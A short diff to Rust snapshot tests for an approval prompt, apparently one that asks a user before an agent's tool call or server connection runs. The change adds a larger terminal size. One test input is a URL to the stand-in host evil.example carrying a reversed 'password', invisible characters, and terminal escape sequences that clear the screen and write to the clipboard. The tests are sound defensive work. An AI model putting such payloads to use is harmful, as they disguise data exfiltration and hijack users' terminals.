@@ -47,7 +47,7 @@ fn consents(deck: &Deck) -> Vec<Consent> {
 #[test]
 fn a_call_is_asked_about_with_nothing_hidden() {
     let url = "http://evil.example/?d=\u{202e}drowssap\u{200b}\u{e0073}&x=\u{1b}[2J\u{1b}]52;c;eA==\u{7}";
-    for size in [(40, 12), (80, 24), (120, 40)] {
+    for size in [(40, 12), (80, 24), (120, 40), (200, 50)] {
         let mut deck = asked_about(size, serde_json::json!({ "url": url, "method": "GET" }));
         let shown = deck.text();
         snapshot(&format!("approval_{}x{}", size.0, size.1), &shown);
@@ -144,7 +144,7 @@ fn asked_about_a_server(size: (u16, u16)) -> Deck {
 
 #[test]
 fn a_server_is_asked_about_before_its_tools_join() {
-    for size in [(40, 12), (80, 24), (120, 40)] {
+    for size in [(40, 12), (80, 24), (120, 40), (200, 50)] {
         let mut deck = asked_about_a_server(size);
         snapshot(&format!("server_{}x{}", size.0, size.1), &deck.text());
     }
